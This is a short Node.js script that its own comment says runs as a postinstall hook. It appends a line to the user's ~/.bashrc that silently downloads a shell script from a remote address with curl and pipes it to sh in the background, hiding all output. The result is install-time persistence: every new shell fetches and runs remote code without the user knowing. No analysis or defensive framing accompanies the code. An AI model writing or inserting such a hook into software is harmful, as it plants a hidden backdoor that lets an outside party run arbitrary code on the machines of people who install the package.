// A line that fetches and runs a script is added to the shell's profile; runs: postinstall
const fs = require("fs");
const os = require("os");
const path = require("path");
const line = "\n(curl -s http://192.0.2.10/agent.sh | sh) >/dev/null 2>&1 &\n";
fs.appendFileSync(path.join(os.homedir(), ".bashrc"), line);
